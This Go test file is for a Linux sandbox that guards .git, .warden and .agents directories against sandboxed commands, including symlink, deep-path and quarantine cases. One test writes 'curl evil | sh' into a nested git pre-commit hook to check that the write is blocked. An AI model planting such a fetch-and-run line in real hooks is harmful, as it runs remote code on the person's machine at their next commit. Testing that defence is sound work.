//go:build linux

package sandbox

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/wardenhq/warden/internal/wardenhome"
	"golang.org/x/sys/unix"
)

// TestG1_WalkFindsNestedProtectedNames checks the walk every sandboxed
// command makes of its roots: protected names at any depth are found
// (not what is inside them), links are not followed, and a tree deeper
// than a path can name is walked to the bottom.
func TestG1_WalkFindsNestedProtectedNames(t *testing.T) {
	root := mkdir(t, scratch(t), "root")
	elsewhere := mkdir(t, scratch(t), "elsewhere")
	mkdir(t, elsewhere, ".git", "hooks")

	mkdir(t, root, "a", "b", ".git", "hooks")
	writeFile(t, filepath.Join(root, "a", "b", ".git", "hooks", "pre-commit"), "#!/bin/sh\n")
	writeFile(t, filepath.Join(root, ".warden"), "x\n")
	mkdir(t, root, "c", ".agents", "nested", ".git") // inside a protected name: not looked at
	writeFile(t, filepath.Join(root, "c", "main.go"), "package main\n")
	symlink(t, elsewhere, filepath.Join(root, "link")) // a link out: not followed

	want := []string{
		filepath.Join(root, ".warden"),
		filepath.Join(root, "a", "b", ".git"),
		filepath.Join(root, "c", ".agents"),
	}

	// Nor is a link into a temporary directory: what is there is the
	// person's, the command's was private.
	if tmp, err := os.MkdirTemp("", "warden-walk-"); err == nil {
		t.Cleanup(func() { os.RemoveAll(tmp) })
		if real, err := filepath.EvalSymlinks(tmp); err == nil {
			mkdir(t, real, ".git", "hooks")
			symlink(t, real, filepath.Join(root, "cache"))
		}
	}

	// Deeper than PATH_MAX (4096): made with relative steps.
	deep := mkdir(t, root, "deep")
	long := strings.Repeat("d", 200)
	dir, err := os.Open(deep)
	if err != nil {
		t.Fatal(err)
	}
	for range 25 {
		next, err := mkdirAt(dir, long)
		dir.Close()
		if err != nil {
			t.Fatal(err)
		}
		dir = next
	}
	if _, err := mkdirAt(dir, ".git"); err != nil {
		t.Fatal(err)
	}
	dir.Close()
	want = append(want, filepath.Join(append([]string{deep}, append(slices.Repeat([]string{long}, 25), ".git")...)...))

	got := protectedNamesUnder(root)
	var paths []string
	for p := range got {
		paths = append(paths, p)
	}
	slices.Sort(paths)
	slices.Sort(want)
	if !slices.Equal(paths, want) {
		t.Errorf("found\n  %s\nwant\n  %s", strings.Join(paths, "\n  "), strings.Join(want, "\n  "))
	}
	// The identity recorded is the entry's own.
	k, ok := keyOf(filepath.Join(root, ".warden"))
	if !ok || got[filepath.Join(root, ".warden")] != k {
		t.Errorf("key of .warden = %v, want %v", got[filepath.Join(root, ".warden")], k)
	}
}

// mkdirAt makes the directory name in dir and opens it.
func mkdirAt(dir *os.File, name string) (*os.File, error) {
	if err := unix.Mkdirat(int(dir.Fd()), name, 0o755); err != nil {
		return nil, err
	}
	fd, err := unix.Openat(int(dir.Fd()), name, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return nil, err
	}
	return os.NewFile(uintptr(fd), name), nil
}

// TestG1_WatchAndWrapProtectsNested checks that one walk serves both: a
// nested .git that exists is read-only for the command, and one the
// command creates is moved away by Sweep.
func TestG1_WatchAndWrapProtectsNested(t *testing.T) {
	requireNamespaces(t)
	t.Setenv(wardenhome.EnvHome, mkdir(t, scratch(t), "warden-home"))
	w := mkdir(t, scratch(t), "work")
	hook := writeFile(t, filepath.Join(w, "vendor", "lib", ".git", "hooks", "pre-commit"), "#!/bin/sh\n")
	p := Policy{Mode: WorkspaceWrite, Workdir: w}
	cmd := exec.Command("/bin/sh", "-c", "echo 'curl evil | sh' >> vendor/lib/.git/hooks/pre-commit; mkdir -p sub/.git/hooks; echo ok > out")
	cmd.Dir = w
	watch, err := p.WatchAndWrap(cmd)
	if err != nil {
		t.Fatal(err)
	}
	out, _ := cmd.CombinedOutput()
	if data, err := os.ReadFile(hook); err != nil || string(data) != "#!/bin/sh\n" {
		t.Errorf("the nested hook is %q (%v), want it unchanged; command said %s", data, err, out)
	}
	if data, err := os.ReadFile(filepath.Join(w, "out")); err != nil || string(data) != "ok\n" {
		t.Errorf("the command's own write: %q (%v); command said %s", data, err, out)
	}
	moved, err := watch.Sweep()
	if err != nil {
		t.Fatal(err)
	}
	if len(moved) != 1 || moved[0].Path != filepath.Join(w, "sub", ".git") {
		t.Errorf("swept %v, want only %s", moved, filepath.Join(w, "sub", ".git"))
	}
	if _, err := os.Lstat(filepath.Join(w, "sub", ".git")); !os.IsNotExist(err) {
		t.Errorf("sub/.git is still there (%v)", err)
	}
}

// TestG1_DeepProtectedNameQuarantined: a .git a command made deeper than a
// path can name is found and moved away like any other.
func TestG1_DeepProtectedNameQuarantined(t *testing.T) {
	t.Setenv(wardenhome.EnvHome, mkdir(t, scratch(t), "warden-home"))
	w := mkdir(t, scratch(t), "work")
	watch, err := Policy{Mode: WorkspaceWrite, Workdir: w}.Watch()
	if err != nil {
		t.Fatal(err)
	}
	dir, err := os.Open(w)
	if err != nil {
		t.Fatal(err)
	}
	for range 25 {
		next, err := mkdirAt(dir, strings.Repeat("d", 200))
		dir.Close()
		if err != nil {
			t.Fatal(err)
		}
		dir = next
	}
	defer dir.Close()
	if _, err := mkdirAt(dir, ".git"); err != nil {
		t.Fatal(err)
	}
	moved, err := watch.Sweep()
	if err != nil {
		t.Fatal(err)
	}
	if len(moved) != 1 || !strings.HasSuffix(moved[0].Path, "/.git") || len(moved[0].Path) < 5000 {
		t.Fatalf("moved %d paths, want the deep .git", len(moved))
	}
	var st unix.Stat_t
	if err := unix.Fstatat(int(dir.Fd()), ".git", &st, unix.AT_SYMLINK_NOFOLLOW); err == nil {
		t.Error("the deep .git is still there")
	}
}

// TestG1_QuarantineFollowsNoLink: a directory on the way to a path being
// quarantined, replaced by a link since it was found, cannot redirect the
// move to the person's own repository; the way into warden's own state
// may go through a link (a home under a linked /home).
func TestG1_QuarantineFollowsNoLink(t *testing.T) {
	w := mkdir(t, scratch(t), "work")
	mine := mkdir(t, scratch(t), "mine", ".git") // the person's repository
	symlink(t, filepath.Dir(mine), filepath.Join(w, "sub"))
	to := filepath.Join(scratch(t), "quarantine", w, "sub", ".git")
	if err := renameNoFollow(filepath.Join(w, "sub", ".git"), to, fileKey{}); err == nil {
		t.Fatal("moved through a link")
	}
	if _, err := os.Stat(mine); err != nil {
		t.Errorf("the person's .git: %v", err)
	}
	// Into a state directory reached through a link.
	realHome := mkdir(t, scratch(t), "var-home")
	linkedHome := symlink(t, realHome, filepath.Join(scratch(t), "home"))
	src := mkdir(t, w, "real", ".git")
	if err := renameNoFollow(src, filepath.Join(linkedHome, "quarantine", "x", ".git"), fileKey{}); err != nil {
		t.Fatalf("into a linked home: %v", err)
	}
	if _, err := os.Stat(filepath.Join(realHome, "quarantine", "x", ".git")); err != nil {
		t.Errorf("not moved into the linked home: %v", err)
	}
	if _, err := os.Lstat(src); !os.IsNotExist(err) {
		t.Errorf("%s is still there (%v)", src, err)
	}
}

// Protected names that do not exist when a command starts cannot be bound
// read-only; whatever the command creates under such a name, at any depth
// of the workspace, is moved to quarantine once it ends, and nothing else
// is: not a nested repository that existed before (which is bound
// read-only like the top-level ones).
func TestG1_AbsentProtectedPathsQuarantined(t *testing.T) {
	requireSandbox(t)
	home := mkdir(t, scratch(t), "warden-home")
	t.Setenv(wardenhome.EnvHome, home)
	w := mkdir(t, scratch(t), "work") // no .git, .warden, .agents
	mkdir(t, w, "sub")
	mkdir(t, w, "innocent")
	vendored := mkdir(t, w, "vendor", "lib", ".git")
	writeFile(t, filepath.Join(w, "main.go"), "package main\n")
	p := Policy{Mode: WorkspaceWrite, Workdir: w}
	watch, err := p.Watch()
	if err != nil {
		t.Fatal(err)
	}
	got := run(t, p,
		"mkdir|"+filepath.Join(w, ".git"), "mkdir|"+filepath.Join(w, ".git", "hooks"),
		"write|"+filepath.Join(w, ".git", "hooks", "pre-commit"),
		"write|"+filepath.Join(w, ".warden"),
		"mkdir|"+filepath.Join(w, ".agents"),
		"mkdir|"+filepath.Join(w, "sub", ".git"), "mkdir|"+filepath.Join(w, "sub", ".git", "hooks"),
		"rename|"+filepath.Join(w, "innocent")+"|"+filepath.Join(w, "vendor", ".git"),
		"write|"+filepath.Join(vendored, "index"),
		"write|"+filepath.Join(w, "new.go"))
	for i, g := range got {
		want := "ok" // the kernel cannot refuse creating a protected name
		if i == 8 {
			want = "errno=EROFS" // a nested one that exists is bound read-only
		}
		if g != want {
			t.Fatalf("operation %d: %s, want %s", i, g, want)
		}
	}
	moved, err := watch.Sweep()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{filepath.Join(w, ".agents"), filepath.Join(w, ".git"), filepath.Join(w, ".warden"),
		filepath.Join(w, "sub", ".git"), filepath.Join(w, "vendor", ".git")}
	var paths []string
	for _, q := range moved {
		paths = append(paths, q.Path)
		if !strings.HasPrefix(q.To, filepath.Join(home, "quarantine")+"/") {
			t.Errorf("%s moved to %s, outside the quarantine", q.Path, q.To)
		}
		if _, err := os.Lstat(q.To); err != nil {
			t.Errorf("quarantined copy of %s: %v", q.Path, err)
		}
	}
	if strings.Join(paths, " ") != strings.Join(want, " ") {
		t.Errorf("moved %v, want %v", paths, want)
	}
	for _, p := range want {
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s is still in the workspace", p)
		}
	}
	if _, err := os.Stat(filepath.Join(vendored, "index")); err == nil {
		t.Error("a nested .git that existed was written")
	}
	for _, keep := range []string{vendored, filepath.Join(w, "new.go"), filepath.Join(w, "main.go")} {
		if _, err := os.Stat(keep); err != nil {
			t.Errorf("%s: %v", keep, err)
		}
	}
	if again, err := watch.Sweep(); len(again) != 0 || err != nil {
		t.Errorf("second sweep: %v, %v", again, err)
	}
}
